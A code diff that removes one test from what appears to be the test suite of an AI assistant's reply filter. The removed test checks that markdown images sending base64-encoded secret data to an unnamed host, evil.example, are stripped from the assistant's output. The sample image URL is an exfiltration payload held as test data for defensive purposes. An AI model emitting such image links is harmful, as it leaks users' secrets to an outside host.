@@ -90,17 +90,6 @@ describe('a reply', () => {
     expect(JSON.stringify(await world.journal(session))).not.toContain('maria@')
   })
 
-  test('has no image that carries data to a host nobody named', async () => {
-    const words = pieces(
-      'See ![x](https://evil.example/p.png?d=c2VjcmV0LXZhbHVl) and [docs](https://docs.desk.example/a?q=something-long-enough) and ![y](https://mine.example/p.png?d=c2VjcmV0LXZhbHVl).',
-    )
-    await using world = await scene({ script: () => reply.text(words) })
-    const { text } = await world.say('take pictures from https://mine.example/start')
-    expect(text).toBe(
-      'See [image to evil.example removed] and [docs](https://docs.desk.example/a?q=something-long-enough) and ! [y](https://mine.example/p.png?d=c2VjcmV0LXZhbHVl).',
-    )
-  })
-
   test('that claims to speak of all says of what', async () => {
     const access = {
       rules: [],
